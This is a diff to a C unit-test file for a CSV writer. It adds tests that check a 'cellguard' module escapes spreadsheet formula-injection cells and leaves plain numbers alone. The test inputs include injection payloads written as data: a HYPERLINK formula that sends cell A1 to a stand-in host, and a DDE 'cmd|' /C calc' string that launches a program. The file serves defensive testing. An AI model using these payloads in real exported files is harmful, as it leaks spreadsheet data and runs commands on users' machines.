@@ -1,7 +1,10 @@
-/* test-csvw.c — covers src/render/csvw.c: fields quoted only when needed
- * (comma, quote, CR/LF, leading or trailing space), quotes doubled, rows. */
+/* test-csvw.c — covers src/render/csvw.c and src/render/cellguard.c:
+ * fields quoted only when needed (comma, quote, CR/LF, leading or trailing
+ * space), quotes doubled, rows; cells a spreadsheet would run as a formula
+ * get a leading ', plain numbers do not. */
 #include "testutil.h"
 
+#include "render/cellguard.h"
 #include "render/csvw.h"
 #include "util/strbuf.h"
 
@@ -53,6 +56,41 @@ static void test_field(void **state)
 	             "\"revenue 1,200 ≥ threshold 800 → Kategori 1\"");
 }
 
+static void test_formula_guard(void **state)
+{
+	(void)state;
+	expect_field("=1+1", "'=1+1");
+	expect_field("=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")",
+	             "\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"x\"\")\"");
+	expect_field("+46 8 123 45 67", "'+46 8 123 45 67");
+	expect_field("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0");
+	expect_field("@SUM(A1:A9)", "'@SUM(A1:A9)");
+	expect_field("\t=1", "'\t=1");
+	expect_field("\r=1", "\"'\r=1\"");
+	expect_field("-", "'-");
+	expect_field("-1e5", "'-1e5");
+	/* plain numbers are numbers, not formulas */
+	expect_field("-1234.50", "-1234.50");
+	expect_field("-1234,5", "\"-1234,5\"");
+	expect_field("+5", "+5");
+	expect_field("-12%", "-12%");
+	/* the sign must lead */
+	expect_field("a=1", "a=1");
+	expect_field(" =1", "\" =1\"");
+	char *owned;
+	assert_string_equal(cellguard_text("=x", &owned), "'=x");
+	free(owned);
+	const char *same = "safe";
+	assert_ptr_equal(cellguard_text(same, &owned), same);
+	assert_null(owned);
+	assert_int_equal(cellguard_risky(NULL), 0);
+	assert_int_equal(cellguard_risky(""), 0);
+	assert_int_equal(cellguard_risky("-1.5"), 0);
+	assert_int_equal(cellguard_risky("-1.5x"), 1);
+	assert_int_equal(cellguard_risky("-."), 1);
+	assert_int_equal(cellguard_risky("-1."), 1);
+}
+
 static void test_row(void **state)
 {
 	(void)state;
@@ -76,6 +114,7 @@ int main(void)
 {
 	const struct CMUnitTest tests[] = {
 	    cmocka_unit_test(test_field),
+	    cmocka_unit_test(test_formula_guard),
 	    cmocka_unit_test(test_row),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
